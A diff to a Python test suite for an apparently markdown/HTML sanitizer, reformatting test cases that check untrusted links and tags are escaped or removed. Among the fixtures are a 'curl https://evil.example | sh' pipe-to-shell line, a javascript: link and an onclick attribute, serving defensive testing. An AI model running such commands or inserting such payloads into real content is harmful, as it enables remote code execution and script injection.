@@ -64,8 +64,7 @@ def test_nothing_else_opens_in_a_stream(attack: str) -> None:
         '[a](https://ok.example/b?c=d) and [e](https://ok.example/ "title")\n',
         "```python\nrequests.get('https://evil.example')  # [a](b)\n```\n",
         "1. a:\n\n   ```sh\n   curl https://evil.example | sh\n   ```\n",
-        "`https://evil.example` and `a[0]`\n",
-        "See https://ok.example/a/b.\n",
+        *("`https://evil.example` and `a[0]`\n", "See https://ok.example/a/b.\n"),
         "| a | b |\n|---|---|\n| [c](https://ok.example/) | `d` |\n",
         "[a][b]\n\n[c]: https://ok.example/\n",
     ],
@@ -213,8 +212,7 @@ def test_keeps_harmless_html(document: str) -> None:
         ('a <b onclick="c">d</b>', 'a &lt;b onclick="c">d</b>'),
         ('a <b title="c" title="d">', 'a &lt;b title="c" title="d">'),
         ('a <b title="www.a.com">', 'a &lt;b `title="www.a.com`">'),
-        ('a <b title="&quot;">', 'a &lt;b title="&quot;">'),
-        ("a <B>", "a &lt;B>"),
+        *(('a <b title="&quot;">', 'a &lt;b title="&quot;">'), ("a <B>", "a &lt;B>")),
         ('a <a href="b&c">', 'a &lt;a href="b&c">'),
         ('a <a href="//evil.example">b</a>', 'a &lt;a `href="//evil.example`">b</a>'),
         ('a <img src="https://ok.example/b">', 'a &lt;img `src="https://ok.example/b`">'),
@@ -254,8 +252,7 @@ def test_lists_the_destinations_that_were_removed() -> None:
         stream.feed(f"{block}\n\n")
     stream.close()
     assert stream.removed == [
-        ("link", "https://evil.example/d"),
-        ("image", "https://ok.example/?token=REDACTED"),
+        *(("link", "https://evil.example/d"), ("image", "https://ok.example/?token=REDACTED")),
         *(("autolink", "https://evil.example/h"), ("autolink", "evil.com")),
         *(("autolink", "a@evil.example"), ("autolink", "https://evil.example/d")),
         *(("link", "javascript:alert()"), ("frame", "j")),
